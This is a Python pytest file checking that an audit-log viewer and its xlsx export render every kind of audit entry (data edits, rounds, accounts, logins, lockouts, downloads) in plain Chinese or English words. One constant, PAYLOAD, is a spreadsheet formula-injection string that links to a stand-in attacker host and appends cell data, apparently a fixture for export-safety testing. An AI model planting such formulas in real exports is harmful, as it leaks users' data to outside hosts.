"""The audit viewer says every entry in words, in one language (issues 17 and 18).

Real entries of every kind the app writes are made through the store and the services on the demo
database; the viewer's table (and its xlsx export) is then read in Chinese and in English: in Chinese
no code id (`cadre_id`, `save_result`, `inactive`, `password` …) appears outside data values, in
English no Chinese does. Every key an entry carries must have a label in common.vocabulary, and
every enumerated value its term: a new audit key or code fails here until it is given words.
"""
from __future__ import annotations

import io
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from tests.demo_facts import DEMO
from tests.fixtures_app import demo_user, open_session

ROOT = Path(__file__).resolve().parent.parent
CODE_ID = re.compile(r"\b[a-z]+(?:_[a-z]+)+\b|\b(?:rows|sha256|format|reason|via|status|role|inactive|"
                     r"password|unknown|locked|optimal|imported|xlsx|draft|published|archived|"
                     r"initial|topup|admin|cadre|planner|leader|college|deputy|head|school|"
                     r"forbid|lock|idle|absolute|true|false|None|name|kind|summary|added|removed|"
                     r"changed|before|after|filter|action|entity)\b")
HAN = re.compile(r"[\u3400-\u9fff\u3000-\u303f\uff00-\uffef]")
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C4,"点击查看")'


def _cadre(cadre_id: str):
    from store.auth import UserInfo
    return UserInfo(id=0, username=f"u{cadre_id}", display_name="测试干部", role="cadre", college=None,
                    cadre_id=cadre_id)


def _next_calendar():
    import importer
    from data import generate_demo as gd
    return importer.read_calendar(gd.calendar_toml(DEMO.y + 1).encode(), filename="next.toml")


def make_every_entry() -> None:
    """At least one audit entry of every (action, entity) the app writes (the demo's bootstrap adds
    the bulk imports of each kind, the first round and the demo accounts)."""
    from services import (
        access,
        audit_view,
        downloads,
        fit_model,
        requirements,
        rollover,
        round_lifecycle,
        round_publish,
        round_solve,
        scenarios,
        settings,
        users,
        wishes,
    )
    from services import auth as sa
    from services.access import AccessDenied
    from services.db import session_scope
    from store import audit, evidence, frames
    from store import auth as store_auth
    from store import data as sd
    from store import ledger as store_ledger
    from store import sessions as store_sessions

    admin, planner = demo_user("admin"), demo_user("planner")

    # --- data: small replaces of every kind (ids, changed fields, rows added and removed)
    with session_scope() as s:
        cad = sd.load_kind(s, "cadres")
        cad.loc[0, "position"] = "副院长（测试）"
        cad.loc[1, "level"] = "deputy" if cad.loc[1, "level"] != "deputy" else "head"
        cad.at[2, "expertise"] = ("心理健康", "就业指导")
        sd.replace_kinds(s, {"cadres": cad}, admin.username)
        cls = sd.load_kind(s, "classes")
        cls.loc[0, "priority"] = not bool(cls.loc[0, "priority"])
        sd.replace_kinds(s, {"classes": cls}, admin.username)
        for kind in ("preferences", "constraints", "exemptions"):
            df = sd.load_kind(s, kind)
            sd.replace_kinds(s, {kind: pd.concat([df.iloc[1:], df.iloc[:1]]).iloc[:-1]}, admin.username)
        led = sd.load_kind(s, "ledger")
        one = led.iloc[:2].copy()
        one["minutes"] = one["minutes"].fillna(0).astype(int) + 5
        sd.upsert_ledger(s, frames.from_records("ledger", frames.records("ledger", one)), admin.username)
        sd.delete_activity(s, str(led.iloc[2]["activity_id"]), admin.username)
        a3, c3 = str(led.iloc[3]["activity_id"]), str(led.iloc[3]["cadre_id"])
        store_ledger.set_review(s, a3, c3, "confirmed", "", "college")
        store_ledger.set_review(s, str(led.iloc[4]["activity_id"]), str(led.iloc[4]["cadre_id"]), "returned",
                                "请补充照片", "college")
        store_ledger.clear_review(s, str(led.iloc[4]["activity_id"]), "cadre")
        store_ledger.acknowledge(s, 1, c3, "cadre")
        att = evidence.add(s, a3, c3, "活动照片.png", "image/png", b"\x89PNG", "ab" * 32, None, "cadre")
        evidence.remove(s, att, "cadre")
        sd.save_calendar(s, sd.load_calendar(s), admin.username)

    # --- rounds: create, solve (a real report), publish (the previous one archived), discard
    rid = round_lifecycle.create_round(admin, "测试轮次", "initial", {"time_limit_s": 20})
    round_solve.solve_round(admin, rid)
    round_publish.publish(admin, rid, round_publish.earliest_effective_date(admin), warnings_confirmed=True)
    spare = round_lifecycle.create_round(admin, "作废轮次", "initial", {})
    round_lifecycle.discard(admin, spare)

    # --- scenarios: create, edit, parameters, delete
    sid = scenarios.create(planner, "测试情景")
    scenarios.add_edit(planner, sid, {"op": "add_hypothetical", "count": 1, "level": "deputy", "capacity": 1})
    scenarios.set_params(planner, sid, {"objective": "fair"})
    scenarios.delete(planner, sid)

    # --- wishes: open, deadline, answer
    col = wishes.open_collection(admin, "测试意向征集", datetime.now(UTC) + timedelta(days=7), 3)
    wishes.set_deadline(admin, col.id, datetime.now(UTC) + timedelta(days=9))
    opts = wishes.choices(admin)
    me = _cadre(next(iter(sd_ids("cadres"))))
    wishes.save_answer(me, col.id, [{"kind": "class", "value": next(iter(opts["class"]))},
                                    {"kind": "grade", "value": next(iter(opts["grade"]))}],
                       [{"kind": "college", "value": next(iter(opts["college"])), "reason": "配偶在该学院任教"}])

    # --- accounts: create, update, deactivate/activate, reset, lock out, unlock, provision
    users.create(admin, "tester", "Secret-pass-1", "college", "测试账号", college=next(iter(opts["college"])))
    users.update(admin, "tester", display_name="测试账号二", role="planner")
    users.set_account_active(admin, "tester", False)
    with session_scope() as s:
        store_auth.authenticate(s, "tester", "Secret-pass-1")            # inactive
    users.set_account_active(admin, "tester", True)
    users.reset_password(admin, "tester")
    with session_scope() as s:
        store_auth.authenticate(s, "nobody-here", "x")                   # unknown
        for _ in range(6):                                               # wrong password, lockout, locked
            store_auth.authenticate(s, "tester", "wrong")
    users.unlock(admin, "tester")
    users.provision_cadres(admin, [sd_ids("cadres")[-1]])
    with session_scope() as s:
        store_auth.set_password(s, "tester", "Another-pass-2", "tester")

    # --- sign-in and sessions: login, session start, logout, expiry, sessions ended, SSO, security events
    started = sa.start_session("planner", "yixian-planner", "pytest")
    sa.logout(started.token)
    tok = open_session("tester")
    with session_scope() as s:
        store_sessions.resume(s, tok, now=datetime.now(UTC) + timedelta(days=2))   # expired (absolute)
    open_session("tester")
    users.reset_password(admin, "tester")                              # ends the tester's sessions
    sa.sso_session("no-such-campus-id", "cas", "pytest")
    sa.security_event("login_throttled", "10.0.0.1", "too many failures", "pytest")
    sa.security_event("sso_failed", "oidc", "state missing or wrong", "pytest")

    # --- settings, requirements, fit model
    settings.set_publicity(admin, 5, "组织部 电话 0000", "中共某大学委员会组织部")
    requirements.add(admin, DEMO.start, {"face_to_face": {"at_least": 3}}, note="每周三次（测试）")
    requirements.update_settings(admin, good=0.9, count_confirmed_only=True)
    _, cfg = fit_model.current(admin)
    cfg["weights"]["unit"] = "2.5"
    fit_model.save(admin, cfg, "单位加权")

    # --- downloads, refusals, the year roll-over, the viewer's own export
    downloads.record(admin, "official_list", rows=123, about=str(rid), fmt="xlsx")
    downloads.record(admin, "publicity_list", rows=120, about=str(rid), fmt="pdf", note={"draft": True})
    downloads.record(admin, "cadres", rows=123)
    for role in ("cadre", "college"):
        with pytest.raises(AccessDenied):
            audit_view.entries(demo_user(role), audit_view.AuditFilter())
    with pytest.raises(AccessDenied):
        access.require(None, "admin", action="audit.view")
    with pytest.raises(AccessDenied):                                  # a reason that names the owner
        access.require_owner(planner, "另一位规划人员", action="edit_scenario", target="1")
    rollover.apply(admin, rollover.preview(admin, _next_calendar()))
    audit_view.export_xlsx(admin, audit_view.AuditFilter(actor="admin", since=date(2020, 1, 1)))
    with session_scope() as s:     # an oversized payload is kept as its size and hash
        audit.record(s, "admin", "save_result", "round", rid, after={"report": "x" * 300_000})


def sd_ids(kind: str) -> list[str]:
    from services.db import session_scope
    from store import data as sd
    with session_scope() as s:
        df = sd.load_kind(s, kind)
    return list(df["cadre_id" if kind == "cadres" else "class_id"])


@pytest.fixture
def logged(demo_db):
    make_every_entry()
    from services.db import session_scope
    from store import audit
    with session_scope() as s:
        return audit.audit_rows(s, limit=None)


def test_every_kind_of_entry_is_made(logged):
    kinds = set(zip(logged["action"], logged["entity"], strict=True))
    expected = {("replace", k) for k in ("cadres", "classes", "preferences", "constraints", "exemptions",
                                          "calendar")} | {
        ("upsert", "ledger"), ("import", "ledger"), ("delete", "ledger"), ("confirmed", "ledger_review"),
        ("returned", "ledger_review"), ("resubmit", "ledger_review"), ("acknowledge", "acknowledgement"),
        ("attach", "attachment"), ("delete", "attachment"), ("create", "round"), ("save_result", "round"),
        ("publish", "round"), ("archive", "round"), ("update", "round"), ("create", "scenario"),
        ("update", "scenario"), ("delete", "scenario"), ("open", "wish_collection"),
        ("deadline", "wish_collection"), ("answer", "wishes"), ("create", "user"), ("update", "user"),
        ("set_active", "user"), ("reset_password", "user"), ("set_password", "user"), ("unlock", "user"), ("provision", "user"),
        ("login", "user"), ("login_failed", "user"), ("lockout", "user"), ("sso_refused", "user"),
        ("sessions_ended", "user"), ("session_start", "session"), ("logout", "session"),
        ("session_expired", "session"), ("login_throttled", "security"), ("sso_failed", "security"),
        ("access_denied", "security"), ("set_settings", "settings"), ("save", "requirements"),
        ("create", "fit_model"), ("download", "official_list"), ("download", "publicity_list"),
        ("download", "cadres"), ("rollover", "calendar"), ("export", "audit_log")}
    assert expected <= kinds, sorted(expected - kinds)


def _texts(table: pd.DataFrame, lang: str) -> list[str]:
    cols = ["操作", "修改前", "修改后"] if lang == "zh" else ["What", "Before", "After"]
    return [str(v) for c in cols for v in table[c]]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_each_entry_in_words_in_one_language(logged, lang):
    from services import audit_view

    admin = demo_user("admin")
    unknown: set[str] = set()
    wrong: list = []
    for row in logged.itertuples():
        data: list[str] = []
        missing: list[str] = []
        said = [audit_view.what(row.action, row.entity, row.entity_id, lang, data=data, unknown=missing)]
        said += [audit_view.words(v, lang, action=row.action, entity=row.entity, data=data, unknown=missing)
                 for v in (row.before, row.after)]
        unknown |= {f"{row.action}/{row.entity}: {m}" for m in missing}
        text = "\n".join(said)
        for d in sorted(set(data), key=len, reverse=True):          # names, ids, file names are data
            text = text.replace(d, "")
        found = CODE_ID.findall(text) if lang == "zh" else HAN.findall(text)
        if found:
            wrong.append((row.action, row.entity, sorted(set(found))[:10], text[:300]))
    assert not unknown, "\n".join(sorted(unknown))      # every key and code has words
    assert not wrong, wrong[:5]
    table = audit_view.entries(admin, audit_view.AuditFilter(limit=10_000), lang)
    assert len(table) == len(logged)
    assert all("{" not in t and "'" not in t for t in _texts(table, lang))


def test_known_codes_are_said_in_words(logged):
    from services import audit_view

    zh = audit_view.entries(demo_user("admin"), audit_view.AuditFilter(limit=10_000), "zh")
    en = audit_view.entries(demo_user("admin"), audit_view.AuditFilter(limit=10_000), "en")
    failed = zh.loc[zh["操作"].str.startswith("登录失败"), "修改后"]
    assert any("原因: 账号已停用" in t for t in failed) and any("原因: 密码错误" in t for t in failed)
    assert any("方式: 密码" in t for t in zh["修改后"])
    assert any("Reason: account inactive" in t for t in en["After"])
    saved = zh.loc[zh["操作"].str.startswith("保存求解结果"), "修改后"]
    assert any("状态: 最优" in t or "状态: 可行" in t for t in saved)
    mine = logged.loc[(logged["entity"] == "cadres") & (logged["actor"] == "admin")].iloc[-1]
    replaced = audit_view.words(mine.after, "zh", action="replace", entity="cadres")
    assert "修改: （工号 " in replaced and "职务: " in replaced and "层级: " in replaced
    assert " → 心理健康、就业指导）" in replaced                  # a list field changed: its items, no brackets


def test_the_export_says_the_same_words(logged):
    from services import audit_view

    admin = demo_user("admin")
    for lang in ("zh", "en"):
        table = audit_view.entries(admin, audit_view.AuditFilter(limit=10_000), lang)
        raw = audit_view.export_xlsx(admin, audit_view.AuditFilter(limit=10_000), lang)
        ws = load_workbook(io.BytesIO(raw)).active
        rows = list(ws.iter_rows(values_only=True))
        assert list(rows[0]) == list(table.columns)
        cells = [["" if v is None else str(v) for v in r] for r in rows[1:]]     # an empty cell reads as None
        assert cells == [[str(v) for v in r] for r in table.itertuples(index=False)]


def test_every_permission_a_refusal_can_name_has_words():
    """Refusals name the service permission refused (access.require(action=…)): each has words."""
    from common import vocabulary

    names = set()
    for path in [*ROOT.glob("services/*.py"), *ROOT.glob("ui/**/*.py"), *ROOT.glob("pages/*.py")]:
        src = path.read_text(encoding="utf-8")
        names |= set(re.findall(r'action="([a-z_.]+)"', src))
        names |= set(re.findall(r'\(user, [\w\[\]"().get ]+, "([a-z_]+\.[a-z_]+|[a-z]+_[a-z_]+)"\)', src))
    assert len(names) > 40
    missing = sorted(n for n in names if vocabulary.audit_permission(n, "zh") is None)
    assert not missing, missing


def test_an_update_reads_as_what_it_changed(logged):
    from services import audit_view

    zh = audit_view.entries(demo_user("admin"), audit_view.AuditFilter(actor="admin", action="update", entity="user"))
    row = zh.loc[zh["操作"] == "修改 账号 tester"].iloc[0]
    assert row["修改前"] == "显示名称: 测试账号；角色: 院系"        # the name that identifies it: once, after
    assert row["修改后"] == "用户名: tester；显示名称: 测试账号二；角色: 规划人员"


def test_a_revision_anchor_reads_in_words():
    """A revision's parameters and result name the round it keeps close to (its "anchor")."""
    from services import audit_view

    after = {"parameters": {"anchor": {"of": 3, "pairs": [["19860133", "2026110202"]]}},
             "result": {"status": "optimal", "anchor": {"pairs": 120, "kept": 118, "changed": 2, "weight": 0.5}}}
    for lang, said in (("zh", "参数: （参照的分配: （参照轮次: 3，配对: 19860133→2026110202））"),
                       ("en", "Parameters: (Anchored to: (Round: 3, Pairs: 19860133→2026110202))")):
        unknown: list[str] = []
        text = audit_view.words(after, lang, action="create", entity="round", unknown=unknown)
        assert not unknown and text.startswith(said), text


def test_a_key_or_code_without_words_is_reported():
    from services import audit_view

    for value in ({"brand_new_key": 1}, {"status": "no_such_status"}, {"action": "no.such_permission"},
                  {"reason": "a new refusal"}):
        unknown: list[str] = []
        audit_view.words(value, "zh", action="access_denied", entity="security", unknown=unknown)
        assert unknown, value
    unknown = []
    audit_view.what("no_such_action", "round", 1, "zh", unknown=unknown)
    assert unknown == ["code 'no_such_action'"]
